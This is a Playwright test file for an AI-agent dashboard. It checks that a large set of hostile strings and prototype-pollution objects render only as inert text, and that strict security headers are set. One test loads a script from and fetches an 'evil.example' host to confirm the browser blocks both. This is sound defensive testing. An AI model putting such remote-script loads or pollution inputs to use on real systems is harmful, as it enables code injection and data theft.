import type { Page } from "@playwright/test";
import { addProject, anyWidth, enter, expect, test } from "./harness";
import { ATTACKS, DEEP, POLLUTION } from "./hostile/attacks";
import { attacksIn, Guard, said } from "./hostile/guard";
import { type Data, MADE_UP, rewriting } from "./hostile/rewriting";

/** Everything an agent can say, said as each of these. */
const KINDS = ["text", "prompt", "thinking", "tool_use", "tool_result", "stdout", "stderr", "result", "warning"] as const;
/** The width of a phone, so high that few steps lead through everything. */
const HIGH = { width: 390, height: 4_000 };
const NOW = "2026-01-01T00:00:00Z";

test("there are at least sixty attacks", anyWidth, () => {
  expect(new Set(ATTACKS.map(({ name }) => name)).size).toBe(ATTACKS.length);
  expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
});

for (const kind of KINDS) {
  test(`nothing an agent says as ${kind} is more than words`, anyWidth, async ({ page, afield, paired }) => {
    test.slow();
    await addProject(paired, afield, "demo");
    const guard = await Guard.on(page, afield.url);
    const messages = said().map((text, index) => message(kind, text, index + 1));
    await rewriting(page, (type, data) => (type === "get_messages" ? { ...data, messages, more: false, seq: messages.length, gaps: [] } : data));
    await page.setViewportSize(HIGH);
    await page.reload();
    const seen = await readThrough(page, guard);
    expect(ATTACKS.map(({ name }) => name).filter((name) => !seen.has(name))).toEqual([]);
  });
}

test("objects that would change every other one, and deep ones, are shown and change nothing", anyWidth, async ({ page, afield, paired }) => {
  await addProject(paired, afield, "demo");
  const guard = await Guard.on(page, afield.url);
  const messages = [POLLUTION, DEEP].map((input, index) => ({ ...message("tool_use", "§0§", index + 1), message: frame(input) }));
  await rewriting(page, (type, data) => {
    if (type === "get_messages") return { ...data, messages, more: false, seq: 2, gaps: [] };
    if (type === "project_list") return { projects: data["projects"].map((one: Data) => ({ ...one, settings: POLLUTION })) };
    if (type === "state_get") return { ...data, registers: [{ key: "__proto__", version: 1, value: POLLUTION, others: [] }] };
    return data;
  });
  await page.reload();
  const tools = page.getByRole("region", { name: "Messages" }).locator("button[aria-expanded=false]");
  await expect(tools).toHaveCount(2);
  for (let left = 2; left > 0; left--) await tools.first().click();
  await guard.expectHarmless("main");
});

test("nothing asked for approval is more than words, and nothing in it hides", anyWidth, async ({ page, afield, paired }) => {
  await addProject(paired, afield, "demo");
  const guard = await Guard.on(page, afield.url);
  const project = page.url().split("/").at(-1);
  const approvals = said().map((text, index) => ({
    approval_id: `a-${index}`,
    project_id: project,
    command_id: `c-${index}`,
    state: "open",
    requested_at: NOW,
    kind: "tool",
    tool: index % 3 === 0 ? text : "Bash",
    input: index % 2 === 0 ? { command: text, [text]: text } : text,
    title: text,
    reason: text,
    session_rule: true,
    rules: [{ tool: text, content: text, destination: "local_settings" }],
    directory: text,
  }));
  await rewriting(page, (type, data) => (type === "approval_list" ? { approvals } : data));
  await page.goto(`${afield.url}/needs-me`);
  await expect(page.getByText(`${ATTACKS.length} waiting`).first()).toBeVisible();
  await guard.expectHarmless("main");
  const seen = new Set(attacksIn(await page.locator("main").innerText()));
  expect(ATTACKS.map(({ name }) => name).filter((name) => !seen.has(name))).toEqual([]);
  for (let left = 3; left > 0; left--) await page.getByRole("button", { name: "Always…" }).first().click();
  await guard.expectHarmless("main");
});

test("no name of a project, machine, device or command is more than words", anyWidth, async ({ page, afield, paired }) => {
  test.slow();
  await addProject(paired, afield, "demo");
  const guard = await Guard.on(page, afield.url);
  const texts = said();
  await rewriting(page, (type, data) => {
    const [project] = (data["projects"] ?? []) as Data[];
    const [runner] = (data["runners"] ?? []) as Data[];
    const [device] = (data["devices"] ?? []) as Data[];
    if (type === "project_list") return { projects: texts.map((text, index) => ({ ...project, id: MADE_UP + index, runner_id: "r-0", path: `/srv/${text}`, settings: index % 2 === 0 ? { name: text } : {} })) };
    if (type === "runner_list") return { runners: texts.map((text, index) => ({ ...runner, runner_id: `r-${index}`, name: text, facts: { ...runner?.["facts"], os: text, host: text, version: text, roots: [text] } })) };
    if (type === "device_list") return { devices: texts.map((text, index) => ({ ...device, id: `d-${index}`, name: text, credential: "token", kind: "cli", about: { system: text, version: text } })) };
    if (type === "command_list") return { commands: texts.map((text, index) => ({ id: `c-${index}`, project_id: `${MADE_UP}0`, runner_id: "r-0", kind: "prompt", agent: "demo", state: "queued", summary: text, attempt: 0, submitted_by: "d-0", created_at: NOW })) };
    return data;
  });
  for (const screen of ["projects", "machines", "queue", "new", "more/tokens", "more/about", "more/defaults", "more/history"]) {
    await page.goto(`${afield.url}/${screen}`);
    await expect(page.getByText(/§/).first()).toBeAttached();
    await guard.expectHarmless("main");
  }
});

test("no title of a conversation, no label and nothing a search finds is more than words", anyWidth, async ({ page, afield, paired }) => {
  test.slow();
  await addProject(paired, afield, "demo");
  const session = page.url();
  const guard = await Guard.on(page, afield.url);
  const texts = said();
  const usage = { input_tokens: 1, output_tokens: 1, cache_read_tokens: 0, cache_write_tokens: 0 };
  await rewriting(page, (type, data) => {
    if (type === "session_list") return { sessions: texts.map((text, index) => ({ id: `s-${index}`, project_id: "p", state: "ended", title: text, model: text, created_at: NOW, last_used_at: NOW, turns: 1, usage })), more: false };
    if (type === "message_search") return { messages: texts.map((text, index) => ({ ...message("text", text, index + 1), project_id: "p" })), more: false, gaps: [] };
    if (type === "runner_list") return { runners: (data["runners"] as Data[]).map((runner) => ({ ...runner, labels: texts })) };
    return data;
  });
  const all = ATTACKS.map(({ name }) => name);
  const expectAll = async (words: string) => {
    const seen = new Set(attacksIn(words));
    expect(all.filter((name) => !seen.has(name))).toEqual([]);
  };
  await page.goto(`${afield.url}/more/history`);
  await expect(page.getByRole("link", { name: /§/ }).first()).toBeVisible();
  await guard.expectHarmless("main");
  await page.goto(session);
  await page.getByRole("button", { name: "File, urgency, time, conversation" }).click();
  const conversations = page.getByRole("list", { name: "Earlier conversations" });
  await expect(conversations.getByRole("button").first()).toBeVisible();
  await guard.expectHarmless("main");
  await expectAll(await conversations.innerText());
  await page.goto(`${afield.url}/machines`);
  await page.getByRole("link", { name: /online\s.*\bdemo\b/ }).click();
  const labels = page.getByRole("list", { name: "Labels" });
  await expect(labels.getByRole("button").first()).toBeVisible();
  await guard.expectHarmless("main");
  await expectAll(await labels.innerText());
});

test("every answer forbids what pages of others could do with it", anyWidth, async ({ afield, request }) => {
  for (const path of ["/", "/projects", "/needs-me", "/a", "/sw.js", "/manifest.webmanifest", "/icon.svg"]) {
    const headers = (await request.get(afield.url + path)).headers();
    const policy = headers["content-security-policy"] ?? "";
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).toContain("frame-ancestors 'none'");
    expect(policy, path).toContain("require-trusted-types-for 'script'");
    expect(policy, path).not.toContain("unsafe");
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["cross-origin-opener-policy"], path).toBe("same-origin");
    expect(headers["referrer-policy"], path).toBe("no-referrer");
    expect(headers["set-cookie"], path).toBeUndefined();
  }
});

test("the browser itself refuses what would get through", anyWidth, async ({ page, afield }) => {
  await enter(page, afield);
  const refused = await page.evaluate(() => {
    const attempt = (act: () => unknown): boolean => {
      try {
        act();
        return false;
      } catch {
        return true;
      }
    };
    const host = document.createElement("div");
    return {
      html: attempt(() => (host.innerHTML = "<b>x</b>")),
      source: attempt(() => (document.createElement("script").src = "https://evil.example/x.js")),
      policy: attempt(() => (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy("mine", {})),
    };
  });
  expect(refused).toEqual({ html: true, source: true, policy: true });
  const elsewhere = await page.evaluate(() => fetch("https://evil.example/").then(() => "sent", () => "refused"));
  expect(elsewhere).toBe("refused");

  const outer = await page.context().newPage();
  await outer.setContent(`<iframe src="${afield.url}"></iframe>`);
  await expect(outer.frameLocator("iframe").getByRole("navigation")).toHaveCount(0);
});

function frame(input: unknown): object {
  return { message: { content: [{ type: "tool_use", id: "t", name: "Bash", input }] } };
}

function message(kind: (typeof KINDS)[number], text: string, seq: number): Data {
  const tool = kind.startsWith("tool") ? { id: "t", name: text.slice(0, 400), failed: seq % 2 === 0 } : undefined;
  return { seq, timestamp: NOW, direction: kind === "prompt" ? "client" : "claude", kind, text, tool, message: { ...frame({ command: text, other: [text] }), attachments: [attached(text)], is_error: true } };
}

function attached(name: string): Data {
  return { hash: "0".repeat(64), name, media_type: `image/${name.length % 2 === 0 ? "png" : name}`, bytes: 1 };
}

/**
 * Looks at every line; gives what was seen. Once more where the list was loaded anew under way, as after a
 * connection that came back: then its end is not where it was.
 */
async function readThrough(page: Page, guard: Guard): Promise<Set<string>> {
  const stream = page.getByRole("region", { name: "Messages" });
  await expect(stream.getByText(/§/).first()).toBeAttached();
  const seen = new Set<string>();
  for (let again = 3; again > 0 && seen.size < ATTACKS.length; again--) {
    await page.waitForLoadState("networkidle");
    await readOnce(page, guard, seen);
  }
  return seen;
}

/** Scrolls from the beginning to the end, opens what is folded. */
async function readOnce(page: Page, guard: Guard, seen: Set<string>): Promise<void> {
  const stream = page.getByRole("region", { name: "Messages" });
  await stream.evaluate((view) => view.scrollTo(0, 0));
  for (let atEnd = 0; atEnd < 2; ) {
    await stream.evaluate((view) => view.querySelectorAll("details:not([open])").forEach((one) => one.setAttribute("open", "")));
    await settled(page);
    await guard.expectHarmless("main");
    for (const name of attacksIn(await stream.evaluate((view) => view.textContent ?? ""))) seen.add(name);
    const left = await stream.evaluate((view) => {
      const before = view.scrollTop;
      view.scrollBy(0, view.clientHeight);
      return view.scrollTop - before;
    });
    atEnd = left < 1 ? atEnd + 1 : 0;
  }
}

/** Two pictures later: what was scrolled to is drawn. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
}
